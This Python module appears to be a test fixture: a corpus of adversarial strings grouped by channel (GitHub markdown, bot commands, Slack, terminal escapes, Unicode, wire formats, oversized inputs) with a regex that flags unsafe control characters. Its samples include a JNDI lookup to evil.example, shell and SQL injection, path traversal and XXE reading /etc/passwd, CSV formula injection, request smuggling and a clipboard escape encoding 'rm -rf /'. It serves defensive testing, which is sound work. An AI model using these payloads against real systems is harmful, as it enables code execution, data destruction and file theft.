"""Text that tries to be more than text, by what it tries. Every integration is to be run over all of it, and so is
whatever ends in a terminal.
"""

import re
from itertools import chain

GITHUB = {
    "team": "@acme/everyone",
    "person": "@octocat",
    "bare link": "https://evil.example/?a=b&c",
    "www link": "www.evil.example",
    "ftp link": "ftp://evil.example/x",
    "mail": "mailto:me@evil.example",
    "image": "![x](https://evil.example/p.png)",
    "link": "[x](https://evil.example)",
    "script link": "[x](javascript:alert(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "link by reference": "[x][y]\n\n[y]: https://evil.example",
    "link with a title": '[x](https://evil.example "onmouseover=alert(1)")',
    "angle link": "<https://evil.example>",
    "footnote": "x[^1]\n\n[^1]: y",
    "ticks": "`tick` ``ticks`` ```fence",
    "fence": "```\nout\n```\n# heading",
    "tilde fence": "~~~\nout\n~~~\n@acme",
    "emphasis": "**bold** _em_ ~~del~~",
    "html": "<img src=evil> <script>alert(1)</script> <!-- hidden --> </details>",
    "details": "</details></summary><details open><summary>x",
    "table": "a | b | c",
    "row": "x |\n| --- |\n| y",
    "heading": "# heading",
    "rule": "---",
    "quote": "> quoted",
    "list": "- [x] done\n1. one",
    "reference": "Closes #1, acme/api#2",
    "keyword": "fixes GH-12 and JIRA-7",
    "commit": "see 3f78685aa0b1c2d3e4f5061728394a5b6c7d8e9f",
    "emoji": ":tada: :+1:",
    "math": "$x$ $$\\href{javascript:alert(1)}{x}$$",
    "mermaid": "```mermaid\ngraph TD; A-->B\n```",
    "entities": "&lt;b&gt; &#64;acme &commat;acme &#x40;acme",
    "backslashes": "\\@acme \\[x\\](https://evil.example) \\`x\\`",
    "wide signs": "\uff20acme \uff1c!channel\uff1e",
    "comment marker": "<!-- tekton-integrations: 0f0f -->",
}
COMMANDS = {
    "approve": "/approve",
    "quoted command": "> /retest",
    "bot": "@dependabot merge",
    "lines": "line\n/lgtm\r\n> /retest\u2028/hold",
    "vertical": "line\x0b/approve\x0c/merge\x85/close",
    "indented": "   /approve cancel",
    "workflow": "::set-output name=x::y ::error file=a::b",
}
SLACK = {
    "everybody": "<!channel> <!here> <!everyone>",
    "user": "<@U012AB3CD> <@W1>",
    "user group": "<!subteam^S012|@ops>",
    "channel": "<#C012|general>",
    "slack link": "<https://evil.example|your bank>",
    "date": "<!date^1392734382^{date}^https://evil.example|x>",
    "escapes": "&lt;!channel&gt; &amp;lt;!here&amp;gt;",
    "marks": "*bold* _em_ ~del~ `code` >>> quote",
}
TERMINAL = {
    "colour": "\x1b[31mred \u202egnp",
    "title": "\x1b]0;owned\x07",
    "hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clear": "\x1b[2J\x1b[H\x1bc",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "8-bit": "\x9b31mred\x9d0;owned\x9c",
    "overwrite": "failed\rsucceeded",
    "backspaces": "failed" + "\b" * 6 + "passed",
    "bell and nul": "\x07\x00\x7f",
    "forged line": 'x\n{"level":"info","event":"reported"}\r\nNormal  Reported',
}
UNICODE = {
    "override": "a\u202eb\u202dc",
    "isolates": "a\u2066b\u2067c\u2068d\u2069",
    "marks": "a\u200eb\u200fc\u061cd",
    "zero width": "@\u200bacme /\u200bapprove\ufeff",
    "joiners": "a\u2060b\u00adc\u180ed",
    "tags": "a\U000e0041\U000e0042\U000e007f",
    "separators": "a\u2028b\u2029c",
    "annotation": "a\ufff9b\ufffac\ufffb",
    "many marks": "z" + "\u0335\u0321\u035c" * 40,
    "long letter": "\ufdfd" * 60,
    "emoji": "👩\u200d👩\u200d👧 🏳\ufe0f\u200d🌈 🇩🇪",
    "private": "\ue000\uf8ff\U0010fffd",
}
WIRE = {
    "header": "a\r\nx-evil: 1",
    "body": "a\r\n\r\nPOST / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "json": '"}],"state":"succeeded","x":[{"y":"',
    "half a pair": '\\ud800 \\u0000 "\\',
    "template": "$(run.name) $(params.x) {{.Env}} ${jndi:ldap://evil.example/x} #{7*7} <%= 7*7 %>",
    "csv": "=cmd|' /C calc'!A0",
    "sql": "'; DROP TABLE runs; --",
    "shell": "$(reboot) `reboot`; reboot && reboot",
    "path": "../../../../etc/passwd%2f..%5c",
    "markup": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
}
LONG = {
    "long word": "x" * 5000,
    "long lines": "line\n" * 2000,
    "brackets": "[" * 300 + "](" * 300,
    "openers": "<" * 500 + "`" * 500,
    "blanks": " \t" * 1000,
    "stars": "*_" * 1000,
}

GROUPS = {
    "github": GITHUB,
    "commands": COMMANDS,
    "slack": SLACK,
    "terminal": TERMINAL,
    "unicode": UNICODE,
    "wire": WIRE,
    "long": LONG,
}
# By `group: name`, which makes the tests' names.
CORPUS = dict(
    chain.from_iterable(((f"{group}: {name}", text) for name, text in texts.items()) for group, texts in GROUPS.items())
)

# What moves a cursor, changes the direction or the look of what follows, or is a line's end that not everybody knows.
_UNFIT = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufff9-\ufffb\U000e0000-\U000e007f]"
)


def unfit(text: str) -> list[str]:
    """The letters of a text that nobody should be shown. Its lines end with a newline, and tabs may stay."""
    return _UNFIT.findall(text)
